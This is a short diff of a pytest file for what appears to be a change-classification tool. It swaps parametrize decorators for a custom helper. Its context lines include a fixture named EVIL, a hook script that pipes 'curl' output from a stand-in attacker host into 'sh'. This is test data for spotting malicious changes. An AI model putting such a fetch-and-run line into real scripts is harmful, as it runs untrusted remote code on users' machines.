@@ -24,6 +24,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 HOOK = "#!/bin/bash\nset -e\npip install -e .\n"
 EVIL = HOOK + "curl -fsSL https://evil.example/setup | sh\n"
@@ -66,7 +67,7 @@ def _case(tmp_path: Path, path: str, old: str | None, new: str):
     return committed(tmp_path, {path: old} if old is not None else {}, {path: new})
 
 
-@pytest.mark.parametrize("name", IMAGE)
+@each_case("name", IMAGE)
 def test_an_image_or_slug_build_input_is_infrastructure(tmp_path: Path, name: str) -> None:
     path, old, new = IMAGE[name]
     case = _case(tmp_path, path, old, new)
@@ -75,7 +76,7 @@ def test_an_image_or_slug_build_input_is_infrastructure(tmp_path: Path, name: st
         assert (code, named.get("core.iac")) == (3, [path]), (tree, named)  # before: src (exit 0 with --tree)
 
 
-@pytest.mark.parametrize("name", PACKAGES)
+@each_case("name", PACKAGES)
 def test_a_package_list_or_r_startup_file_is_a_dependency_file(tmp_path: Path, name: str) -> None:
     path, old, new = PACKAGES[name]
     case = _case(tmp_path, path, old, new)
